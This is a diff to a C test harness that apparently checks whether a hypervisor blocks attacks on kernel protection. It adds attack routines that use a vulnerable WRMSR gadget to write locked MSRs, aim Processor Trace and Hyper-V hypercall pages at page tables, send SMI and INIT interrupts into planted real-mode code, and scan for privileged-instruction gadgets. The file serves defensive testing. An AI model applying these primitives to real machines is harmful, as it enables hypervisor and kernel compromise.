@@ -105,6 +105,45 @@ static enum outcome pat(void)
 	return msr(0x277, 1ull << 56);
 }
 
+/* Approved code writes the MSR: what is left at hvci, where the attacker's own does not run. */
+static LONG approved_wrmsr(uint32_t index, uint64_t value)
+{
+	uint64_t unused;
+
+	return kcall(place(VULNERABLE_WRMSR), index, value, 0, 0, &unused);
+}
+
+static enum outcome approved_msr(void)
+{
+	static const uint32_t locked[] = {0xc0000080, 0xc0000081, 0xc0000082, 0xc0000084,
+					  0x176,      0x277,	  0x1b};
+
+	for (size_t i = 0; i < sizeof(locked) / sizeof(locked[0]); i++)
+		if (!approved_wrmsr(locked[i], 0))
+			return SUCCEEDED;
+	return REFUSED;
+}
+
+/* Processor trace, told to write over a page table. Where the processor has none it is refused all
+ * the same: what counts is that the host has seen it. */
+static enum outcome msr_trace(void)
+{
+	LONG base = approved_wrmsr(0x560, place(VULNERABLE_CR3) & PTE_FRAME);
+	LONG mask = approved_wrmsr(0x561, 0x7f), on = approved_wrmsr(0x570, 1);
+
+	return base && mask && on ? REFUSED : SUCCEEDED;
+}
+
+/* Hyper-V's hypercall page and reference time: KVM writes both to any page. */
+static enum outcome msr_hyperv(void)
+{
+	LONG os = approved_wrmsr(0x40000000, 1);
+	LONG page = approved_wrmsr(0x40000001, (place(VULNERABLE_CR3) & PTE_FRAME) | 1);
+	LONG time = approved_wrmsr(0x40000021, (place(VULNERABLE_CR3) & PTE_FRAME) | 1);
+
+	return os && page && time ? REFUSED : SUCCEEDED;
+}
+
 /* ---- control registers ---- */
 static const uint8_t get_cr0[] = {0x0f, 0x20, 0xc0, 0xc3};
 static const uint8_t set_cr0[] = {0x0f, 0x22, 0xc7, 0xc3}; /* mov %rdi, %cr0; ret */
@@ -233,8 +272,8 @@ static enum outcome own_idt(void)
 	return descriptor(sidt_code, lidt_code, VULNERABLE_IDT);
 }
 
-/* The kernel's own code, entered at any byte, for an instruction that loads CR0 or CR4. Nothing is
- * run: whether there is one to jump to is the question. */
+/* The kernel's own code, entered at any byte, for an instruction that loads CR0 or CR4, or asks KVM
+ * for something. Nothing is run: whether there is one to jump to is the question. */
 static enum outcome cr_gadget(void)
 {
 	static uint8_t page[4096];
@@ -247,28 +286,54 @@ static enum outcome cr_gadget(void)
 		if (!e || kread64(e) & PTE_NX || kread(va, page, n))
 			continue;
 		for (size_t i = 0; i + 2 < n; i++)
-			if (page[i] == 0x0f && page[i + 1] == 0x22 &&
-			    ((page[i + 2] & 0x38) == 0 || (page[i + 2] & 0x38) == 0x20))
+			if (page[i] == 0x0f &&
+			    ((page[i + 1] == 0x22 &&
+			      ((page[i + 2] & 0x38) == 0 || (page[i + 2] & 0x38) == 0x20)) ||
+			     (page[i + 1] == 1 && (page[i + 2] == 0xc1 || page[i + 2] == 0xd9))))
 				return SUCCEEDED;
 	}
 	return REFUSED;
 }
 
-/* The other processor begins anew, without paging, in the attacker's code: which ends the machine
- * with an exit code of its own. */
+/* Real mode, in which it ends the machine with an exit code of its own. */
+static const uint8_t real[] = {0xfa,				   /* cli */
+			       0x66, 0xbf, 0x4d, 0x00, 0x00, 0x00, /* mov $77, %edi */
+			       0x66, 0xb8, 0x01, 0x00, 0x00, 0x00, /* mov $HC_EXIT, %eax */
+			       0xba, 0x74, 0x6e,		   /* mov $port, %dx */
+			       0x66, 0xef,			   /* out %eax, %dx */
+			       0xf4};
+
+/* The other processor begins anew, without paging, in the attacker's code. */
 static enum outcome sipi(void)
 {
-	static const uint8_t real[] = {0xfa,				   /* cli */
-				       0x66, 0xbf, 0x4d, 0x00, 0x00, 0x00, /* mov $77, %edi */
-				       0x66, 0xb8, 0x01, 0x00, 0x00, 0x00, /* mov $HC_EXIT, %eax */
-				       0xba, 0x74, 0x6e,		   /* mov $port, %dx */
-				       0x66, 0xef,			   /* out %eax, %dx */
-				       0xf4};
 	const uint64_t page = 9; /* below 64 KB, where nothing is */
 	uint64_t unused;
 
 	kwrite(DIRECT_MAP + page * 4096, real, sizeof(real));
 	kcall(place(VULNERABLE_SIPI), 1, page, 0, 0, &unused);
+	Sleep(1000);
+	return FAILED;
+}
+
+/* The other processor enters system management mode, without paging, at its address from the time
+ * of reset: an interrupt of that kind comes from its local APIC (x2APIC's ICR). */
+static enum outcome smi(void)
+{
+	const uint64_t handler = 0x38000, other = 1ull << 32, deliver_smi = 0x4200;
+
+	kwrite(DIRECT_MAP + handler, real, sizeof(real));
+	approved_wrmsr(0x830, other | deliver_smi);
+	Sleep(1000);
+	return FAILED;
+}
+
+/* The first processor begins anew where a reset leads: at the last 16 bytes below 4 GB. */
+static enum outcome init_boot(void)
+{
+	const uint64_t deliver_init = 0x4500;
+
+	SetThreadAffinityMask(GetCurrentThread(), 2);
+	approved_wrmsr(0x830, deliver_init);
 	Sleep(1000);
 	return FAILED;
 }
@@ -302,6 +367,9 @@ const struct attack attacks_state[] = {
     {"sysenter", sysenter},
     {"efer", efer_nx},
     {"pat", pat},
+    {"approved-msr", approved_msr},
+    {"msr-trace", msr_trace},
+    {"msr-hyperv", msr_hyperv},
     {"cr0-wp", cr0_wp},
     {"cr4-smep", cr4_smep},
     {"cr4-smap", cr4_smap},
@@ -312,5 +380,7 @@ const struct attack attacks_state[] = {
     {"cr-gadget", cr_gadget},
     {"mid-instruction", mid_instruction},
     {"sipi", sipi},
+    {"smi", smi},
+    {"init", init_boot},
     {0},
 };
